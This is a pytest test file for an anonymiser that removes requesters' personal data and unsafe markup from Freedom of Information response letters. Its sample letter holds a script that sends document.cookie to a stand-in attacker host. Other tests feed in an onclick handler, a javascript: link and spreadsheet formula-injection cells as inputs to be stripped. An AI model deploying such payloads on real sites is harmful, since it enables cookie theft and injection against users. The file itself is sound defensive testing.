"""The anonymiser removes the requester's details and any other personal data pattern from a
response letter, keeps its structure and the authority's public contacts, and strips unsafe
markup (disclosure_log/anonymise.py)."""

import html as html_lib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from answerable.core.spreadsheet import neutralise as spreadsheet_safe
from answerable.disclosure_log.anonymise import (
    MARK,
    anonymise,
    anonymise_text,
    html_text,
    personal_data_left,
    sanitise,
)
from answerable.disclosure_log.headings import demote_headings

LETTER = """
<h1>Freedom of Information Response</h1>
<p>Dear Ms Jane Smith,</p>
<p>12 Example Street<br>Glasgow<br>G2 3AB</p>
<h2>Your request</h2>
<table><caption>Custodies by station</caption>
<tr><th scope="col">Station</th><th scope="col">Custodies</th></tr>
<tr><td>Govan</td><td>76</td></tr></table>
<ul><li>Up to 24 hours - 384</li></ul>
<script>document.location = "https://evil.example/?" + document.cookie</script>
<p onclick="alert(1)">You can request a review by letter (Clyde Gateway, G40 4EH).</p>
"""


def test_the_given_strings_are_removed_whatever_their_case_and_spacing() -> None:
    personal = ["Jane Smith", "12 example street"]
    result = anonymise(
        "<p>JANE   SMITH wrote from 12 Example\nStreet; jane&nbsp;smith again</p>", personal
    )
    text = html_text(result)
    assert "jane" not in text.lower()
    assert "example" not in text.lower()
    assert text.count(MARK) == 3
    assert personal_data_left(text, personal) == []


def test_a_name_split_by_markup_is_removed_and_the_markup_kept() -> None:
    result = anonymise("<p>Dear Jane <strong>Smith</strong>, thank you</p>", ["Jane Smith"])
    assert "Smith" not in result and "Jane" not in result
    assert result == f"<p>Dear {MARK}<strong></strong>, thank you</p>"


def test_curly_and_straight_apostrophes_are_the_same_letter() -> None:
    result = anonymise("<p>Mr O\u2019Brien and Mr O'BRIEN</p>", ["O'Brien"])
    assert "brien" not in result.lower()


def test_whole_words_only_so_a_short_name_does_not_strike_other_words() -> None:
    result = anonymise("<p>Ann asked for the Annual report</p>", ["Ann"])
    assert html_text(result) == f"{MARK} asked for the Annual report"


@pytest.mark.parametrize(
    "found",
    [
        "jane.smith+foi@example.org",
        "07700 900123",
        "07700900123",
        "+44 7700 900123",
        "+44 (0)141 496 0000",
        "0141 496 0000",
        "(0141) 496 0000",
        "020 7946 0000",
        "G2 3AB",
        "EH1 1AA",
        "eh1 1aa",
        "KY16 9DS",
        "SW1A 1AA",
    ],
)
def test_e_mail_addresses_phone_numbers_and_postcodes_are_removed(found: str) -> None:
    result = anonymise(f"<p>Contact: {found}, thanks.</p>", [])
    assert html_text(result) == f"Contact: {MARK}, thanks."
    assert personal_data_left(found, [])


def test_a_phone_number_loses_its_digits_not_the_words_after_it() -> None:
    result = anonymise_text("call 0141 496 0000 24 hours a day", [])
    assert result == f"call {MARK} 24 hours a day"


@pytest.mark.parametrize(
    "text",
    [
        "537 immigration related custodies in 2017/18",
        "Up to 24 hours - 384 25 to 48 hours - 126 Over 48 hours - 27",
        "0 0 0 0 0 0 0 0 0 0 0",
        "Sections 12(1) and 16(4); s38(1)(b); SSI 2004/467; IM-FOI-2018-1421; FOI 23-1751",
        "over 140,000 records and 17,000 police officers",
    ],
)
def test_counts_references_and_statutes_are_not_mistaken_for_personal_data(text: str) -> None:
    assert personal_data_left(text, []) == []
    assert anonymise_text(text, []) == text


def test_public_contacts_named_in_keep_stay() -> None:
    keep = ["G40 4EH", "foi@scotland.pnn.police.uk", "01463 720508"]
    text = "Write to G40 4EH or foi@scotland.pnn.police.uk, call 01463 720508, not G2 3AB"
    assert anonymise_text(text, [], keep=keep) == (
        f"Write to G40 4EH or foi@scotland.pnn.police.uk, call 01463 720508, not {MARK}"
    )
    # Kept contacts are exempt from the patterns, never from the strings the caller names.
    assert anonymise_text("G40 4EH", ["G40 4EH"], keep=keep) == MARK


def test_tables_headings_and_lists_are_kept_and_scripts_removed() -> None:
    result = anonymise(LETTER, ["Jane Smith", "12 Example Street"])
    for kept in ("<h1>", "<h2>", "<table>", "<caption>", '<th scope="col">', "<td>76</td>", "<li>"):
        assert kept in result
    assert "<script" not in result and "document.cookie" not in result
    assert "onclick" not in result
    assert "G2 3AB" not in result and "Jane" not in result
    assert "G40 4EH" not in result  # no keep list given: a postcode like any other


def test_links_keep_only_safe_schemes_and_lose_the_address_in_them() -> None:
    result = anonymise(
        '<a href="mailto:jane@example.org">write</a> <a href="javascript:alert(1)">x</a>', []
    )
    assert "jane@example.org" not in result
    assert "javascript" not in result
    assert f'href="mailto:{MARK}"' in result


def test_images_styles_and_forms_are_removed() -> None:
    result = sanitise(
        '<img src="https://tracker.example/x.gif"><style>p{}</style><form><input></form><p>ok</p>'
    )
    assert result == "<p>ok</p>"


def test_blank_personal_strings_are_refused_by_position() -> None:
    with pytest.raises(ValueError, match=r"personal\[1\] is blank"):
        anonymise("<p>x</p>", ["Jane", "  "])
    with pytest.raises(TypeError, match="not one string"):
        anonymise("<p>x</p>", "Jane Smith")


def test_the_check_names_kinds_and_positions_never_the_data() -> None:
    found = personal_data_left("From Jane Smith, jane@example.org", ["Jane Smith"])
    assert found == ["given personal data item 1 at character 5", "e-mail address at character 17"]
    assert not any("Jane" in item or "example" in item for item in found)


def test_the_check_reads_across_line_breaks_as_a_pdf_wraps_them() -> None:
    assert personal_data_left("Dear Jane\nSmith", ["Jane Smith"])
    assert personal_data_left("tel 0141\n496 0000", [])


def test_anonymising_twice_changes_nothing_more() -> None:
    once = anonymise(LETTER, ["Jane Smith"])
    assert anonymise(once, ["Jane Smith"]) == once


# Text of ordinary words, into which the personal strings are put between words or markup.
WORDS = st.lists(st.text(alphabet="abcdefghij KLMNO0123456789.,;", min_size=1, max_size=12))
_CHARACTERS = st.characters(blacklist_categories=("Cs", "Cc"))
_WORD = st.text(alphabet=_CHARACTERS, min_size=1, max_size=8).filter(lambda w: w.split() == [w])
# Names and address lines of one to three words, and any text at all.
PERSONAL = st.one_of(
    st.lists(_WORD, min_size=1, max_size=3).map(" ".join),
    st.text(alphabet=_CHARACTERS, min_size=1, max_size=20).filter(lambda value: value.strip()),
)
SEPARATORS = st.sampled_from([" ", "\n", "&nbsp;", "<br>", "</p><p>", " <b>", "</b> "])


@given(
    words=WORDS,
    personal=st.lists(PERSONAL, min_size=1, max_size=3),
    where=st.lists(st.integers(min_value=0, max_value=100), min_size=1, max_size=5),
    separator=SEPARATORS,
    data=st.data(),
)
def test_no_personal_string_survives_anonymising(
    words: list[str], personal: list[str], where: list[int], separator: str, data: st.DataObject
) -> None:
    pieces = [html_lib.escape(word) for word in words]
    for position in where:
        value = data.draw(st.sampled_from(personal))
        # Between words, its own words joined by any whitespace variant or markup.
        spaced = separator.join(html_lib.escape(part) for part in value.split())
        pieces.insert(position % (len(pieces) + 1), spaced)
    letter = "<p>" + " ".join(pieces) + "</p>"

    assert personal_data_left(html_text(sanitise(letter)), personal)  # there to be found

    result = anonymise(letter, personal)

    assert personal_data_left(html_text(result), personal) == []
    assert anonymise(result, personal) == result


@given(text=st.text(max_size=200), personal=st.lists(PERSONAL, max_size=3))
def test_what_anonymise_text_returns_passes_the_check(text: str, personal: list[str]) -> None:
    assert personal_data_left(anonymise_text(text, personal), personal) == []


def test_headings_of_the_letter_start_below_the_page_heading() -> None:
    assert demote_headings("<h1>A</h1><h2>B</h2><h6>C</h6>", top=3) == (
        "<h3>A</h3><h4>B</h4><h6>C</h6>"
    )
    assert demote_headings("<h4>A</h4>", top=3) == "<h4>A</h4>"
    assert demote_headings("<p>none</p>", top=3) == "<p>none</p>"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("23-1751", "23-1751"),
        ("s12, s38(1)(b)", "s12, s38(1)(b)"),
        ("", ""),
    ],
)
def test_spreadsheet_cells_that_start_a_formula_are_made_text(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe
